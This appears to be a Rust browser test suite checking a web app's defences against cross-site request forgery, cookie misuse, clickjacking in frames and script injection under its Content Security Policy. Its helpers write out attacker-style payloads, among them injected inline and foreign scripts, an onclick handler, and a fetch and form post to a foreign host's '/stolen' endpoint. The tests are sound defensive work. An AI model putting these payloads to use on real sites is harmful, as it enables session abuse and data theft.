//! What pages of other sites try, and what is injected into ours.

use anyhow::{Result, ensure};
use serde_json::json;

use crate::page::{Page, quoted};
use crate::stage::Stage;

/// A page of the same site but another origin, to which the browser gives every cookie, asks for
/// what the user did not ask for.
pub(super) fn a_neighbour_cannot_act(stage: &Stage) -> Result<()> {
    let (visitor, own) = stage.signed_in("member")?;
    let foreign = visitor.page()?;
    asks(stage, &foreign, &stage.foreign.next_door("/"), [403, 403])?;
    still_signed_in(stage, &own)
}

/// A page of another site asks: the browser keeps the session cookie to itself, because it is
/// `SameSite=Lax`.
pub(super) fn another_site_has_no_cookie(stage: &Stage) -> Result<()> {
    let (visitor, own) = stage.signed_in("member")?;
    let foreign = visitor.page()?;
    asks(stage, &foreign, &stage.foreign.elsewhere("/"), [401, 401])?;
    still_signed_in(stage, &own)
}

/// The same where the cookie is sent all the same, as browsers do that do not know `SameSite`. This
/// one sends it with the form alone: for a script it is a cookie of a third party.
pub(super) fn another_site_with_the_cookie_cannot_act(stage: &Stage) -> Result<()> {
    let (visitor, own) = stage.signed_in("member")?;
    for name in ["__session", "__client_uat"] {
        let value = visitor.cookie(name)?.unwrap_or_default();
        let attributes = json!({ "sameSite": "None", "secure": true });
        visitor.set_cookie(name, &value, &attributes)?;
    }
    let foreign = visitor.page()?;
    asks(stage, &foreign, &stage.foreign.elsewhere("/"), [401, 403])?;
    still_signed_in(stage, &own)
}

/// A link from elsewhere is no attack.
pub(super) fn a_link_from_elsewhere_works(stage: &Stage) -> Result<()> {
    let (visitor, _own) = stage.signed_in("member")?;
    let foreign = visitor.page()?;
    foreign.open(&stage.foreign.elsewhere("/"))?;
    let dashboard = stage.url("/dashboard");
    let link = format!("<a id=link href={dashboard}>Look</a>");
    foreign.run(&format!(
        "document.body.insertAdjacentHTML('beforeend', {})",
        quoted(&link)
    ))?;
    foreign.click("#link")?;
    foreign.arrives(&dashboard, "Dashboard")
}

/// A page in a frame of a foreign page could be clicked unseen.
pub(super) fn frames_stay_empty(stage: &Stage) -> Result<()> {
    let (visitor, _own) = stage.signed_in("member")?;
    let foreign = visitor.page()?;
    let pages = [stage.url("/dashboard"), stage.stand_in("/sign-in")];
    for origin in [stage.foreign.elsewhere("/"), stage.foreign.next_door("/")] {
        // The foreign site lets itself be framed, so a frame that loads is seen to load.
        foreign.open(&origin)?;
        let control = stage.foreign.next_door("/framed");
        ensure!(is_shown_in_a_frame(&foreign, &control)?, "{control}");
        for page in &pages {
            ensure!(!is_shown_in_a_frame(&foreign, page)?, "{page} in {origin}");
            foreign.complains("frame-ancestors 'none'")?;
        }
    }
    Ok(())
}

/// Text that got into a page as markup does nothing there.
pub(super) fn injected_scripts_do_not_run(stage: &Stage) -> Result<()> {
    let visitor = stage.visitor()?;
    let page = visitor.page()?;
    let script = stage.foreign.elsewhere("/script.js");

    // On a page without a policy both run.
    page.open(&stage.foreign.elsewhere("/"))?;
    inject(&page, &script)?;
    page.until(
        "the scripts run",
        "window.inlineScriptRan && window.foreignScriptRan",
    )?;

    for address in [
        stage.url("/"),
        stage.stand_in("/sign-in"),
        stage.stand_in("/inspector"),
    ] {
        page.open(&address)?;
        inject(&page, &script)?;
        page.complains("violation: script-src-elem forbids inline")?;
        page.complains("violation: script-src-attr forbids inline")?;
        page.complains(&format!("violation: script-src-elem forbids {script}"))?;
        page.complains("violation: img-src forbids")?;
        page.complains("violation: connect-src forbids")?;
        page.complains("violation: form-action forbids")?;
        // What the browser says of the same in its own words.
        page.complains("Content Security Policy")?;
        let ran = "window.inlineScriptRan || window.foreignScriptRan || window.handlerRan || false";
        ensure!(page.run(ran)? == false, "{address}: a script has run");
        ensure!(page.run("location.href")? == address);
    }
    Ok(())
}

/// Opens a foreign page, which asks for something by a script and by a form. The answers have these
/// statuses.
fn asks(stage: &Stage, foreign: &Page<'_>, origin: &str, statuses: [u64; 2]) -> Result<()> {
    let action = stage.url("/api/sign-out-everywhere");
    foreign.open(origin)?;
    let request = "{ method: 'POST', credentials: 'include', mode: 'cors' }";
    let script = format!(
        "fetch({}, {request}).then(() => 'read', () => 'not readable')",
        quoted(&action)
    );
    ensure!(foreign.run(&script)? == "not readable");
    let by_script = foreign.answer(&action)?.status;
    foreign.complains("CORS policy")?;
    foreign.complains("Failed to load resource")?;

    foreign.run(&format!(
        "{{
            const form = document.createElement('form');
            Object.assign(form, {{ method: 'post', enctype: 'text/plain', action: {} }});
            document.body.append(form);
            form.submit();
        }}",
        quoted(&action)
    ))?;
    let by_form = foreign.answer(&action)?.status;
    let got = [by_script, by_form];
    ensure!(got == statuses, "{origin}: {got:?} instead of {statuses:?}");
    foreign.complains("Failed to load resource")
}

fn still_signed_in(stage: &Stage, own: &Page<'_>) -> Result<()> {
    let dashboard = stage.url("/dashboard");
    own.open(&dashboard)?;
    own.arrives(&dashboard, "Dashboard")
}

/// Puts `url` into a frame of the page and says whether the browser shows it there.
fn is_shown_in_a_frame(page: &Page<'_>, url: &str) -> Result<bool> {
    page.run(&format!(
        "new Promise((done) => {{
            const frame = document.createElement('iframe');
            Object.assign(frame, {{ src: {}, onload: done }});
            document.body.replaceChildren(frame);
        }})",
        quoted(url)
    ))?;
    Ok(page.framed_url()? == url)
}

/// Puts into the page what an attacker would.
fn inject(page: &Page<'_>, script: &str) -> Result<()> {
    let site = script.trim_end_matches("/script.js");
    page.run(&format!(
        "{{
            const add = (name, properties) =>
                document.body.append(Object.assign(document.createElement(name), properties));
            add('script', {{ textContent: 'window.inlineScriptRan = true' }});
            add('script', {{ src: '{script}' }});
            add('div', {{ innerHTML: '<p onclick=\"window.handlerRan = true\">' }});
            document.body.lastChild.firstChild.click();
            add('img', {{ src: '{site}/image.png', alt: '' }});
            fetch('{site}/stolen', {{ mode: 'no-cors' }}).catch(() => {{}});
            if (location.origin !== '{site}') {{
                add('form', {{ method: 'post', action: '{site}/stolen' }});
                document.body.lastChild.submit();
            }}
        }}"
    ))?;
    Ok(())
}
